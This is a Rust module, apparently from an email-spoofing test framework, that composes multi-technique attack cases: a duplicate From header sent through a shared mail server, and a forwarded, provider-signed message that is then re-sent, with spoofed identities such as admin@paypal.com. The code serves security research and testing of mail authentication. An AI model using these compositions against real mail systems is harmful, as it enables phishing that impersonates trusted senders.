use std::collections::BTreeMap;

use super::generate::{build_message, from_line, GenError};
use super::{AttackCase, AttackId, AttackModel, Bindings, ForwardPlan, GenOptions};
use crate::chain::Stage;
use crate::header::{address_domain, address_local, RawMessage};

/// Shared-MTA duplicate From: the first matches the account, the second
/// is the spoof.
pub const CASE1: [AttackId; 2] = [AttackId::A2, AttackId::A4];
/// Empty MAIL FROM to an account whose provider signs what it forwards,
/// then re-sent directly.
pub const CASE2: [AttackId; 3] = [AttackId::A2, AttackId::A3, AttackId::A10];

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CombineError {
    #[error("incompatible combination: {0}")]
    Incompatible(String),
    #[error("no composer for {0}")]
    Unsupported(String),
    #[error(transparent)]
    Gen(#[from] GenError),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Locus {
    MailFrom,
    From,
}

/// Envelope and header pieces a receiving or rendering technique rewrites.
fn loci(id: AttackId) -> &'static [Locus] {
    match id {
        AttackId::A3 => &[Locus::MailFrom],
        AttackId::A8 => &[Locus::From, Locus::MailFrom],
        _ => &[Locus::From],
    }
}

fn label(ids: &[AttackId]) -> String {
    ids.iter().map(|i| i.to_string()).collect::<Vec<_>>().join("+")
}

/// At most one sending and one forwarding technique; the others must
/// rewrite disjoint parts of the message.
pub fn check_compatible(ids: &[AttackId]) -> Result<(), CombineError> {
    if ids.len() < 2 {
        return Err(CombineError::Incompatible("a combination needs at least two ids".into()));
    }
    let mut seen: Vec<AttackId> = Vec::new();
    let mut touched: Vec<Locus> = Vec::new();
    for &id in ids {
        if seen.contains(&id) {
            return Err(CombineError::Incompatible(format!("{id} appears twice")));
        }
        let stage = Stage::home_of(id);
        if matches!(stage, Stage::Sending | Stage::Forwarding) {
            if let Some(other) = seen.iter().find(|o| Stage::home_of(**o) == stage) {
                return Err(CombineError::Incompatible(format!("{other} and {id} both target {stage}")));
            }
        } else {
            for l in loci(id) {
                if touched.contains(l) {
                    return Err(CombineError::Incompatible(format!("{id} rewrites a field another id already rewrites")));
                }
            }
            touched.extend_from_slice(loci(id));
        }
        seen.push(id);
    }
    Ok(())
}

/// Bindings the shipped world supports for the two documented cases.
pub fn case_bindings(ids: &[AttackId]) -> Option<Bindings> {
    if ids == CASE1 {
        Some(Bindings::new("admin@paypal.com", "Oscar@yahoo.com", "victim@icloud.com"))
    } else if ids == CASE2 {
        Some(Bindings::new("admin@aliyun.com", "Oscar@attack.com", "victim@gmail.com"))
    } else {
        None
    }
}

/// Build a multi-technique case. For `CASE1` the attacker binding is the
/// shared-MTA account; for `CASE2` it is the attacker's own domain and
/// the forwarding account is its local part at the spoofed provider.
pub fn combine(ids: &[AttackId], b: &Bindings, opts: &GenOptions) -> Result<AttackCase, CombineError> {
    check_compatible(ids)?;
    let spoof_domain = address_domain(&b.spoof).unwrap_or_default().to_owned();
    let angle_spoof = format!("<{}>", b.spoof);
    if ids == CASE1 {
        let account = b.attacker.clone();
        let first = from_line(format!("<{account}>"));
        let second = from_line(angle_spoof);
        let mut m = build_message(b, &[first, second], &b.target, opts);
        m.auth_username = Some(account.clone());
        m.mail_from = Some(account.clone());
        return Ok(AttackCase {
            ids: ids.to_vec(),
            model: vec![AttackModel::SharedMta],
            variant: opts.variant,
            messages: vec![m],
            forward: None,
            spoof_identity: b.spoof.clone(),
            attacker_identity: account.clone(),
            note: format!("auth and MAIL FROM {account}; From <{account}> then From <{}>", b.spoof),
            expectations: BTreeMap::new(),
        });
    }
    if ids == CASE2 {
        let account = format!("{}@{spoof_domain}", address_local(&b.attacker));
        let attacker_domain = address_domain(&b.attacker).unwrap_or_default().to_owned();
        let mut step1 = build_message(b, &[from_line(angle_spoof)], &account, opts);
        step1.mail_from = None;
        let mut resend = RawMessage::new(attacker_domain, b.attacker_ip, vec![b.target.clone()]);
        resend.mail_from = Some(b.attacker.clone());
        return Ok(AttackCase {
            ids: ids.to_vec(),
            model: vec![AttackModel::DirectMta, AttackModel::ForwardMta],
            variant: opts.variant,
            messages: vec![step1, resend],
            forward: Some(ForwardPlan {
                forwarder_domain: spoof_domain.clone(),
                account: account.clone(),
                target: b.attacker.clone(),
                target_verified: true,
            }),
            spoof_identity: b.spoof.clone(),
            attacker_identity: b.attacker.clone(),
            note: format!("MAIL FROM:<> to {account}, signed by {spoof_domain}, re-sent as {}", b.attacker),
            expectations: BTreeMap::new(),
        });
    }
    Err(CombineError::Unsupported(label(ids)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn case1_shape() {
        let c = combine(&CASE1, &case_bindings(&CASE1).unwrap(), &GenOptions::default()).unwrap();
        c.validate().unwrap();
        let froms: Vec<String> = c.messages[0]
            .lenient_headers()
            .named("From")
            .map(|f| String::from_utf8(f.raw_value.clone()).unwrap().trim().to_owned())
            .collect();
        assert_eq!(froms, ["<Oscar@yahoo.com>", "<admin@paypal.com>"]);
        assert_eq!(c.label(), "A2+A4");
    }

    #[test]
    fn case2_shape() {
        let c = combine(&CASE2, &case_bindings(&CASE2).unwrap(), &GenOptions::default()).unwrap();
        c.validate().unwrap();
        assert_eq!(c.messages.len(), 2);
        assert_eq!(c.messages[0].mail_from, None);
        assert_eq!(c.messages[0].rcpt_to, ["Oscar@aliyun.com"]);
        assert_eq!(c.messages[1].mail_from.as_deref(), Some("Oscar@attack.com"));
        assert_eq!(c.forward.as_ref().unwrap().forwarder_domain, "aliyun.com");
    }

    #[test]
    fn incompatible() {
        let b = case_bindings(&CASE1).unwrap();
        let o = GenOptions::default();
        assert!(matches!(combine(&[AttackId::A1, AttackId::A1], &b, &o), Err(CombineError::Incompatible(_))));
        assert!(matches!(combine(&[AttackId::A1, AttackId::A2], &b, &o), Err(CombineError::Incompatible(_))));
        assert!(matches!(combine(&[AttackId::A4, AttackId::A5], &b, &o), Err(CombineError::Incompatible(_))));
        assert!(matches!(combine(&[AttackId::A9, AttackId::A10], &b, &o), Err(CombineError::Incompatible(_))));
        assert!(matches!(combine(&[AttackId::A3, AttackId::A4], &b, &o), Err(CombineError::Unsupported(_))));
    }
}
